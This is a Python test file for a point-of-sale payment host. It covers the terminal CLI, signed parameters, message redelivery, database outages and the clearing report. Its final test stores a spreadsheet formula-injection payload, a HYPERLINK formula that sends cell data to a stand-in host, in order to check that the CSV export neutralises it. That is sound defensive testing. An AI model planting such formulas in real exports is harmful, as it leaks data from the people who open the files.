"""The `roampos host` / `terminal` commands, signed parameters, redelivery and database outages."""
import json
import os
import signal
import subprocess
import threading
import time

import pytest

from roampos import iso
from roampos.host import registry
from roampos.host.db import DatabaseError
from roampos.host.handler import Outcome
from roampos.host.service import Worker
from roampos.termsim import MqttLink, SimTerminal
from hostkit import MID, SERIAL, TID, TMK, free_port, roampos_bin, signed_on, wait_port, worker_thread
from test_authorization import card


def cli(*args, check=True):
    out = subprocess.run([roampos_bin(), *args], capture_output=True, text=True, timeout=60)
    if check:
        assert out.returncode == 0, f"roampos {' '.join(args)}: {out.stderr}"
    return out


def test_terminal_registry_cli_refuses_second_binding(db_url):
    add = ["terminal", "--db", db_url, "add", "SZX00001", "--serial", "RP-S3-000777", "--merchant",
           "440300000000009", "--merchant-name", "Dim Sum Cart", "--acquirer", "48022000", "--account",
           "6222030000000009", "--home-region", "440300", "--address", "440300=Stall 3, Nanshan",
           "--tmk", "00112233445566778899AABBCCDDEEFF"]
    assert "registered" in cli(*add).stdout
    again = cli(*add, check=False)
    assert again.returncode == 2 and "one merchant binding per terminal" in again.stderr
    clone = cli(*add[:4], "SZX00002", *add[5:], check=False)
    assert clone.returncode == 2 and "serial RP-S3-000777 is already bound" in clone.stderr
    bad = cli("terminal", "--db", db_url, "grant-region", "SZX00001", "999999", "--from", "2025-01-01",
              "--to", "2025-12-31", check=False)
    assert bad.returncode == 2 and "unknown region 999999" in bad.stderr
    cli("terminal", "--db", db_url, "grant-region", "SZX00001", "810000", "--from", "2025-01-01", "--to", "2030-12-31")
    rows = json.loads(cli("terminal", "--db", db_url, "list", "--json").stdout)
    assert rows[0]["grants"] == [{"region": "810000", "valid_from": "2025-01-01", "valid_to": "2030-12-31"}]
    assert "revoked" in cli("terminal", "--db", db_url, "revoke-region", "SZX00001", "810000").stdout
    unknown = cli("terminal", "--db", db_url, "block", "NOPE0001", check=False)
    assert unknown.returncode == 2 and "unknown terminal NOPE0001" in unknown.stderr
    # Validation with the terminal schema's rules, and grants that make sense
    for i, value in ((6, ""), (10, ""), (12, "ACQ"), (14, "")):   # serial, name, acquirer, account
        bad_add = add[:4] + ["SZX00003"] + add[5:]
        bad_add[i] = value
        r = cli(*bad_add, check=False)
        assert r.returncode == 2 and "must be" in r.stderr, (i, r.stderr)
    for frm, to, text in (("2026-02-30", "2026-12-31", "real dates"), ("2026-05-01", "2026-04-01", "--from <= --to")):
        r = cli("terminal", "--db", db_url, "grant-region", "SZX00001", "810000", "--from", frm, "--to", to, check=False)
        assert r.returncode == 2 and text in r.stderr, r.stderr
    home = cli("terminal", "--db", db_url, "grant-region", "SZX00001", "440300", "--from", "2026-01-01",
               "--to", "2026-12-31", check=False)
    assert home.returncode == 2 and "home region" in home.stderr
    cli("terminal", "--db", db_url, "grant-region", "SZX00001", "810000", "--from", "2026-01-01", "--to", "2026-12-31")
    again = cli("terminal", "--db", db_url, "grant-region", "SZX00001", "810000", "--from", "2026-01-01",
                "--to", "2026-01-02")
    assert "(replaces 2026-01-01..2026-12-31)" in again.stdout


def test_terminal_cli_refuses_what_no_message_or_broker_can_carry(db, tmp_path):
    url = db.url
    add = ["terminal", "--db", url, "add", "SZX00001", "--serial", "RP-S3-000778", "--merchant",
           "440300000000008", "--merchant-name", "Tea Stall", "--acquirer", "48022000", "--account",
           "6222030000000008", "--home-region", "440300", "--tmk", "00112233445566778899AABBCCDDEEFF"]
    # Digits of other scripts are digits to \d, never to field 42 or an acquirer code.
    for i, value in ((8, "\u0663" * 15), (12, "\uff14\uff18\uff10\uff12"), (10, "Tea\nStall")):
        bad = list(add)
        bad[i] = value
        r = cli(*bad, check=False)
        assert r.returncode == 2 and "must be" in r.stderr and "Traceback" not in r.stderr, (i, r.stderr)
    # The same merchant under another name: refused, as another acquirer code or account is.
    other = list(add)
    other[4], other[6], other[8] = "SZX00002", "RP-S3-000779", MID
    r = cli(*other, check=False)
    assert r.returncode == 2 and "Roaming Noodles" in r.stderr
    # A key file that is not text: refused without showing any of its bytes.
    keyfile = tmp_path / "bin.tmk"
    keyfile.write_bytes(b"\x00\xc3\x28" + os.urandom(13))
    r = cli(*add[:-2], "--tmk-file", str(keyfile), check=False)
    assert r.returncode == 2 and "32 hex digits" in r.stderr and "Traceback" not in r.stderr
    # Undecodable bytes in a terminal ID or region code (a shell's $'...\xff'): one-line errors.
    env = dict(os.environ, PYTHONIOENCODING="utf-8")
    for args in (["block", b"SHA0000\xff"], ["grant-region", TID, b"\xff", "--from", "2026-01-01", "--to",
                                             "2026-12-31"], ["revoke-region", TID, b"44\xff300"]):
        r = subprocess.run([roampos_bin(), "terminal", "--db", url, *args], capture_output=True, timeout=60,
                           env=env)
        assert r.returncode == 2 and b"Traceback" not in r.stderr and b"must be" in r.stderr, r.stderr
    # A broker that is not mqtt://host:port is refused before anything changes (never the local one).
    for broker in ("acquirer-broker.invalid:1883", "mqtt://127.0.0.1:notaport", "mqtt://127.0.0.1:70000"):
        r = cli("terminal", "--db", url, "--broker", broker, "block", TID, check=False)
        assert r.returncode == 2 and "must be mqtt://host:port" in r.stderr, r.stderr
    assert registry.get_terminal(db, TID)["blocked"] == 0


def test_params_version_only_goes_up_and_a_will_is_not_a_sighting(db):
    first = json.loads(registry.params_package(db, TID, 2_000_000_000.0).rpartition(b"\n")[0])
    # Pushed from a machine whose clock is 2 s behind: still newer, or the terminal ignores it.
    second = json.loads(registry.params_package(db, TID, 1_999_999_998.0).rpartition(b"\n")[0])
    assert second["v"] > first["v"]
    assert registry.record_heartbeat(db, TID, b'{"fw":"0.3.1","rssi":-71,"region":"310000"}', 1000.0) is None
    assert registry.record_heartbeat(db, TID, b'{"online":false}', 5000.0) is None   # the broker's will
    t = registry.get_terminal(db, TID)
    assert (t["last_seen"], t["online"], t["firmware"]) == (1000, 0, "0.3.1")
    # Text is kept to its first 32 printable characters (control characters dropped first).
    fw = json.dumps({"fw": "\u0001" * 10 + "A" * 40}).encode()
    assert registry.record_heartbeat(db, TID, fw, 6000.0) is None
    assert registry.get_terminal(db, TID)["firmware"] == "A" * 32
    table = cli("terminal", "--db", db.url, "list").stdout.splitlines()
    head, row = table[0].split(), table[1].split()
    assert "online" in head and row[head.index("online")] == "no", table


@pytest.mark.parametrize("db_url", [pytest.param("postgresql", marks=pytest.mark.postgres)], indirect=True)
def test_parallel_adds_of_one_new_merchant_both_register(db):
    # One `terminal add` holds its new merchant uncommitted while another adds a terminal of the
    # same merchant (a provisioning script running them in parallel): the second waits, then binds.
    from roampos.host import db as dbm
    other = dbm.connect(db.url)
    try:
        with other.transaction():
            other.execute("INSERT INTO merchants VALUES (?,?,?,?)", ("310000000000077", "N", "4802", "6222"))
            p = subprocess.Popen([roampos_bin(), "terminal", "--db", db.url, "add", "RACE0002", "--serial", "RP-R2",
                                  "--merchant", "310000000000077", "--merchant-name", "N", "--acquirer", "4802",
                                  "--account", "6222", "--home-region", "310000", "--tmk", "00" * 16],
                                 stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            time.sleep(1.5)
        out, err = p.communicate(timeout=60)
        assert p.returncode == 0 and "registered" in out, err
    finally:
        other.close()


def test_parameters_are_signed_and_retained(mosquitto, db):
    cli("terminal", "--db", db.url, "--broker", mosquitto, "grant-region", TID, "810000",
        "--from", "2025-01-01", "--to", "2030-12-31")
    link = MqttLink(mosquitto)          # subscribes after the publish: the package is retained
    try:
        link.subscribe([TID])
        payload = link.wait_params(TID)
        assert payload is not None
        body = json.loads(iso.verify_params(TMK, payload))
        assert body["terminal"] == TID and body["merchant"] == MID and body["home_region"] == "310000"
        assert {r["code"] for r in body["regions"]} == {"310000", "330100", "440300", "810000"}
        hk = [r for r in body["regions"] if r["code"] == "810000"][0]
        assert hk["currency"] == "344" and hk["fees"]["C"] == {"bps": 80, "cap": 0}
        # methods without a row of their own carry the '*' default, as the host charges them
        assert set(hk["fees"]) == {"C", "Q", "P"}
        assert hk["fees"]["Q"]["bps"] == registry.fee_for(db, "810000", "Q", 10000)
        forged = payload.replace(b'"blocked":false', b'"blocked":true')
        with pytest.raises(iso.MessageError):
            iso.verify_params(TMK, forged)
        with pytest.raises(iso.MessageError):
            iso.verify_params(bytes(16), payload)     # another terminal's key
    finally:
        link.close()


def _start_host(args, port_hint=None):
    proc = subprocess.Popen([roampos_bin(), "host", *args], stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                            text=True, start_new_session=True)
    seen = []
    for line in proc.stdout:
        seen.append(line)
        if "roampos host ready" in line:
            break
    if not seen or "ready" not in seen[-1]:
        _stop(proc)
        raise AssertionError("roampos host did not become ready:\n" + "".join(seen))
    threading.Thread(target=proc.stdout.read, daemon=True).start()   # keep draining the log
    proc.startup_log = "".join(seen)
    return proc


def _stop(proc):
    os.killpg(proc.pid, signal.SIGTERM)
    try:
        proc.wait(20)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait(5)


def _run_terminal(url, n):
    link = MqttLink(url)
    try:
        link.subscribe([TID])
        time.sleep(0.5)
        t = SimTerminal(TID, MID, SERIAL, TMK)
        resp = link.request(TID, t.signon(), 15)
        assert resp is not None, "no sign-on response"
        t.apply_signon(resp)
        codes = [t.check(link.request(TID, t.financial(card(100 + i), 500 + i), 15))["39"] for i in range(n)]
        return codes
    finally:
        link.close()


@pytest.mark.slow
def test_host_command_two_workers_on_mosquitto(mosquitto, db):
    proc = _start_host(["--broker", mosquitto, "--db", db.url, "--workers", "2"])
    # SQLite's single writer makes a second worker a slowdown: the host says so, for SQLite only.
    assert ("take turns on its single writer" in proc.startup_log) == (db.kind == "sqlite"), proc.startup_log
    try:
        # SQLite's workers share one CPU (the last the host may use); PostgreSQL's are the OS's to place.
        cpus = [os.sched_getaffinity(pid) for pid in _worker_pids(proc)]
        allowed = os.sched_getaffinity(0)
        assert len(cpus) == 2
        if db.kind == "sqlite" and len(allowed) > 1:
            assert cpus == [{max(allowed)}] * 2, cpus
            assert f"share CPU {max(allowed)}" in proc.startup_log
        else:
            assert cpus == [allowed] * 2, cpus
        assert _run_terminal(mosquitto, 12) == ["00"] * 12
    finally:
        _stop(proc)
    assert db.one("SELECT COUNT(*) FROM txns")[0] == 12


def _worker_pids(proc) -> list:
    """The worker processes of a `roampos host` (its spawned children but the resource tracker)."""
    out = []
    for task in os.listdir(f"/proc/{proc.pid}/task"):
        with open(f"/proc/{proc.pid}/task/{task}/children") as fh:
            for pid in map(int, fh.read().split()):
                with open(f"/proc/{pid}/cmdline", "rb") as c:
                    cmd = c.read()
                if b"spawn_main" in cmd and b"resource_tracker" not in cmd:
                    out.append(pid)
    return sorted(out)


@pytest.mark.slow
def test_sqlite_workers_spread_when_told(mosquitto, tmp_path):
    proc = _start_host(["--broker", mosquitto, "--db", f"sqlite:///{tmp_path / 'l.db'}", "--workers", "2",
                        "--spread-workers"])
    try:
        assert [os.sched_getaffinity(pid) for pid in _worker_pids(proc)] == [os.sched_getaffinity(0)] * 2
        assert "share CPU" not in proc.startup_log
    finally:
        _stop(proc)


@pytest.mark.slow
def test_host_command_with_embedded_broker(db):
    port = free_port()
    proc = _start_host(["--db", db.url, "--port", str(port)])
    try:
        wait_port(port)
        assert _run_terminal(f"mqtt://127.0.0.1:{port}", 4) == ["00"] * 4
    finally:
        _stop(proc)


def test_request_waits_for_a_restarted_worker(mosquitto, db):
    """A worker's persistent session keeps its share of requests while it is down (never lost)."""
    w, t = worker_thread(mosquitto, db.url, 4242)
    assert w.ready.wait(10), "worker did not subscribe"
    link = MqttLink(mosquitto)
    try:
        term = signed_on(link)
        w.stop()
        t.join(10)
        raw = term.financial(card(200), 700)
        link.send(TID, raw)                 # nobody connected: the broker keeps it for host-4242
        time.sleep(0.3)
        w2, t2 = worker_thread(mosquitto, db.url, 4242)
        resp = link.wait(TID, iso.decode(raw)["11"], 10)
        assert resp is not None and term.check(resp)["39"] == "00"
        w2.stop()
        t2.join(10)
    finally:
        link.close()


def _ledger_with_terminal(tmp_path) -> str:
    """A SQLite ledger at tmp_path/l.db with the test terminal registered: its URL."""
    from roampos.host import db as dbm
    url = "sqlite:///%s" % (tmp_path / "l.db")
    d = dbm.connect(url)
    registry.add_terminal(d, TID, SERIAL, MID, "Roaming Noodles", "48021000", "6222020000000001", "310000", {},
                          TMK.hex())
    d.close()
    return url


_EIO_SHIM = """
import errno, os
_real = os.fdatasync
def _fdatasync(fd):
    if os.path.exists(os.environ["ROAMPOS_TEST_EIO_FLAG"]):
        raise OSError(errno.EIO, "Input/output error")
    return _real(fd)
os.fdatasync = _fdatasync
"""


@pytest.mark.slow
def test_a_failed_ledger_sync_stops_the_host_and_nothing_unsynced_is_answered(mosquitto, tmp_path):
    # The disk fails the WAL's fdatasync (EIO): the sale in that group is neither answered nor
    # acknowledged, and the host stops instead of restarting the worker (a later fsync would report
    # success for pages the disk lost). Started again, the host answers the sale once.
    # The failure is injected from outside the product: a sitecustomize on the workers' path wraps
    # os.fdatasync while a flag file exists.
    url = _ledger_with_terminal(tmp_path)
    shim = tmp_path / "shim"
    shim.mkdir()
    (shim / "sitecustomize.py").write_text(_EIO_SHIM)
    flag = tmp_path / "disk-failed"
    env = dict(os.environ, PYTHONPATH=os.pathsep.join(filter(None, [str(shim), os.environ.get("PYTHONPATH")])),
               ROAMPOS_TEST_EIO_FLAG=str(flag))
    proc = subprocess.Popen([roampos_bin(), "host", "--broker", mosquitto, "--db", url], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, start_new_session=True)
    link = MqttLink(mosquitto)
    try:
        for line in proc.stdout:
            if "roampos host ready" in line:
                break
        term = signed_on(link)
        flag.touch()
        raw = term.financial(card(210), 710)
        stan = iso.decode(raw)["11"]
        assert link.request(TID, raw, 5) is None          # committed, never made durable: no answer
        assert proc.wait(30) == 3
        log = proc.stdout.read()
        assert "WAL sync failed" in log and "could not make the ledger durable" in log, log
        assert "restarting" not in log, log
        flag.unlink()
        proc = _start_host(["--broker", mosquitto, "--db", url])
        resp = link.wait(TID, stan, 15)                   # the broker kept it for the next worker
        assert resp is not None and term.check(resp)["39"] == "00"
        from roampos.host import db as dbm
        d = dbm.connect(url)
        assert d.one("SELECT COUNT(*) FROM txns WHERE stan=? AND kind='financial'", (stan,))[0] == 1
        d.close()
    finally:
        link.close()
        if proc.poll() is None:
            _stop(proc)


class _FakeClient:
    def __init__(self):
        self.events = []

    def publish(self, topic, payload, qos=0):
        self.events.append(("publish", topic))

    def ack(self, msg):
        self.events.append(("ack", msg.mid))


class _FlakyHandler:
    def __init__(self, failures):
        self.failures = failures

    def decode(self, tid, raw):
        return {"t": "0200"}

    def handle(self, tid, raw, now=None, decoded=None):
        if self.failures:
            self.failures -= 1
            raise DatabaseError("connection refused")
        return Outcome(b"0210...", rc="00")


def test_database_outage_holds_the_acknowledgment(db, caplog):
    w = Worker.__new__(Worker)           # no broker needed: drive process() with fakes
    w.index, w.stopping, w.processed, w.max_batch = 0, threading.Event(), 0, 32
    w.client, w.handler, w.db = _FakeClient(), _FlakyHandler(2), db

    class Msg:
        topic, payload, qos, mid = f"roampos/v1/{TID}/req", b"x", 1, 17
    w.process(Msg)
    assert w.client.events == [("publish", f"roampos/v1/{TID}/resp"), ("ack", 17)]
    assert caplog.text.count("database unavailable") == 2
    w.handler, w.client = _FlakyHandler(10**9), _FakeClient()
    threading.Timer(0.5, w.stopping.set).start()
    w.process(Msg)                        # shutting down during an outage: neither answered nor acked
    assert w.client.events == []


@pytest.mark.parametrize("db_url", [pytest.param("postgresql", marks=pytest.mark.postgres)], indirect=True)
def test_postgres_connection_loss_is_retried_not_lost(env, caplog):
    # Killing the server side of a connection needs a server: PostgreSQL only.
    (pid,) = env.worker.db.one("SELECT pg_backend_pid()")
    env.db.one("SELECT pg_terminate_backend(?)", (pid,))
    r = env.send(env.term.financial(card(300), 900, cell="460-00-6200-1"))
    assert r["39"] == "00"
    assert env.db.one("SELECT COUNT(*) FROM txns WHERE amount=900")[0] == 1
    assert "database unavailable" in caplog.text


def _children(pid):
    """PIDs of `pid`'s child processes (the workers, and multiprocessing's resource tracker)."""
    try:
        with open("/proc/%d/task/%d/children" % (pid, pid)) as f:
            return [int(x) for x in f.read().split()]
    except OSError:
        return []


def _gone(pids, timeout):
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        if not any(os.path.exists("/proc/%d" % p) and "zombie" not in open("/proc/%d/status" % p).read().lower()
                   for p in pids if os.path.exists("/proc/%d" % p)):
            return True
        time.sleep(0.2)
    return False


@pytest.mark.slow
def test_a_stop_before_the_host_is_ready_stops_its_workers(tmp_path):
    # The broker is not up yet, so the workers keep retrying and the host is not ready: a SIGTERM
    # to the supervisor then must stop them too, not leave them running on their own.
    proc = subprocess.Popen([roampos_bin(), "host", "--broker", "mqtt://127.0.0.1:%d" % free_port(), "--db",
                             "sqlite:///%s" % (tmp_path / "l.db"), "--workers", "2"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        end = time.monotonic() + 30
        while len(_children(proc.pid)) < 2 and time.monotonic() < end:
            time.sleep(0.2)
        workers = _children(proc.pid)
        assert len(workers) >= 2, workers
        time.sleep(1)
        proc.send_signal(signal.SIGTERM)
        assert proc.wait(30) == 0
        assert _gone(workers, 10), "workers left running without their supervisor"
    finally:
        if proc.poll() is None:
            proc.kill()


@pytest.mark.slow
def test_a_worker_stuck_in_a_database_wait_does_not_hold_the_stop(mosquitto, tmp_path):
    # A worker blocked on the ledger's write lock (another writer holding it) when the host is
    # stopped: the stop ends within the grace, the worker killed (its request not acknowledged:
    # the broker keeps it for the next start).
    import fcntl
    url = _ledger_with_terminal(tmp_path)
    proc = _start_host(["--broker", mosquitto, "--db", url])
    link = MqttLink(mosquitto)
    lock = open(str(tmp_path / "l.db") + ".lock", "a")
    try:
        fcntl.flock(lock, fcntl.LOCK_EX)           # the writer's lock, held elsewhere
        link.send(TID, SimTerminal(TID, MID, SERIAL, TMK).signon())
        time.sleep(1)
        t0 = time.monotonic()
        proc.send_signal(signal.SIGTERM)             # the supervisor only, as a service manager does
        proc.wait(40)
        assert time.monotonic() - t0 < 30
    finally:
        fcntl.flock(lock, fcntl.LOCK_UN)
        lock.close()
        link.close()
        if proc.poll() is None:
            _stop(proc)


# -- second review of the command line (each failed before its fix) -------------------------------
def test_host_refuses_a_broker_that_is_not_mqtt_host_port(db):
    # Without the scheme the host used to connect to whatever listened on 127.0.0.1:1883 and say
    # ready; an impossible port made its worker crash and restart twice a second, forever.
    for broker in ("broker.example.net:1883", "mqtt://127.0.0.1:99999"):
        r = subprocess.run([roampos_bin(), "host", "--broker", broker, "--db", db.url],
                           capture_output=True, text=True, timeout=60)
        assert r.returncode == 2 and "must be mqtt://host:port" in r.stderr and "Traceback" not in r.stderr, r
        assert "ready" not in r.stdout


@pytest.mark.slow
def test_host_is_not_ready_until_its_workers_subscribed(tmp_path, monkeypatch):
    # A broker that is not there: the host keeps trying and never prints its ready line (scripts
    # and `roampos run` wait for it), even after the 60 s a worker has to subscribe.
    port = free_port()
    proc = subprocess.Popen([roampos_bin(), "host", "--broker", "mqtt://127.0.0.1:%d" % port, "--db",
                             "sqlite:///%s" % (tmp_path / "l.db")], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, env=dict(os.environ, ROAMPOS_HOST_READY_S="2"))
    try:
        time.sleep(6)
        assert proc.poll() is None
    finally:
        proc.send_signal(signal.SIGTERM)
        out, err = proc.communicate(timeout=30)
    assert "ready" not in out and "did not subscribe" in err, (out, err[-500:])


def test_terminal_changes_wait_for_a_reachable_broker_and_need_a_ledger(db, tmp_path):
    url = db.url
    add = ["terminal", "--db", url, "--broker", "mqtt://127.0.0.1:%d" % free_port(), "add", "SZX00011",
           "--serial", "RP-S3-000811", "--merchant", "440300000000011", "--merchant-name", "Noodle Bar",
           "--acquirer", "48022000", "--account", "6222030000000011", "--home-region", "440300",
           "--tmk-file", str(tmp_path / "k.tmk")]
    # The broker is down: nothing is registered (a retry would otherwise be refused as a second
    # binding), and no key file is left behind.
    r = cli(*add, check=False)
    assert r.returncode == 1 and "unreachable" in r.stderr and "nothing changed" in r.stderr, r.stderr
    assert registry.get_terminal(db, "SZX00011") is None and not (tmp_path / "k.tmk").exists()
    # --tmk and --tmk-file together: which key is the terminal's? Refused.
    both = cli(*add[:2], url, *add[5:], "--tmk", "00112233445566778899AABBCCDDEEFF", check=False)
    assert both.returncode == 2 and "not allowed with" in both.stderr
    # A ledger that is not there is an error, not an empty registry created on the spot.
    for action in (["list"], ["block", TID]):
        missing = tmp_path / "nowhere.db"
        r = cli("terminal", "--db", "sqlite:///%s" % missing, *action, check=False)
        assert r.returncode == 1 and "no ledger" in r.stderr and not missing.exists(), r.stderr


def test_a_blocked_terminal_still_settles_what_was_approved(handler):
    # Blocking stops new business, not the payout of sales the host already approved: 0500 and the
    # upload of transactions the host has still pass; an upload of one it never saw is 58.
    from hostkit import AtTime, utc
    at = AtTime(handler, utc(2026, 11, 27, 2, 0))
    s = at.sale(card(971), 1000)
    assert s["39"] == "00"
    handler.db.execute("UPDATE terminals SET blocked=1 WHERE terminal_id=?", (TID,))
    assert at.sale(card(972), 1000)["39"] == "58"
    assert at.settle((1, 1000, 0, 0))["39"] == "00"
    assert handler.db.one("SELECT status FROM batches WHERE terminal_id=? AND batch_no='000001'", (TID,))[0] \
        == "settled"
    at.term.batch = "000002"
    doc = iso.decode(at.term.financial(card(973), 500, cell=at.CELL["310000"]))
    doc["t"] = "0320"
    assert at.send(iso.encode(doc, at.term.tak))["39"] == "58"


def test_the_clearing_csv_never_carries_a_formula(db, tmp_path):
    from roampos.host import report
    path = tmp_path / "c.csv"
    db.execute("UPDATE merchants SET name=?", ('=HYPERLINK("http://x.example/?"&F2,"P")',))
    from hostkit import AtTime, utc
    from roampos.host.handler import Handler
    at = AtTime(Handler(db), utc(2026, 11, 27, 2, 0))
    assert at.sale(card(974), 1000)["39"] == "00" and at.settle((1, 1000, 0, 0))["39"] == "00"
    r = cli("report", "settlement", "--db", db.url, "--date", "2026-11-27", "--csv", str(path))
    assert r.returncode == 0
    text = path.read_text()
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text, text
